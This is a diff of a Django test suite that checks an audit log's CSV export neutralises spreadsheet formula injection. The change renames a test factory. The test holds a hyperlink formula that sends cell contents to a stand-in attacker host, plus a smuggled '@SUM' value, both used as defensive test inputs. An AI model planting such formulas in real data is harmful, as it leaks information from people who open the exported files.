@@ -9,7 +9,7 @@ from django.test import Client
 from django.urls import reverse
 
 from roles.audit.csv_export import spreadsheet_safe
-from tests.factories import ApplicationFactory
+from tests.factories import ConnectionFactory
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
@@ -38,7 +38,7 @@ def test_formula_cells_get_a_leading_quote_and_stay_readable(typed, exported):
 def test_a_failed_sign_in_and_a_client_name_cannot_inject_a_formula_into_the_audit_export(admin_client):
     """The review: an anonymous failed sign-in named =HYPERLINK(…) was exported verbatim."""
     Client().post(reverse("login"), {"username": FORMULA, "password": "wrong"})
-    ApplicationFactory(name="@SUM(A1:A9)")
+    ConnectionFactory(name="@SUM(A1:A9)")
 
     changelist = reverse("admin:roles_auditevent_changelist")
     response = admin_client.post(
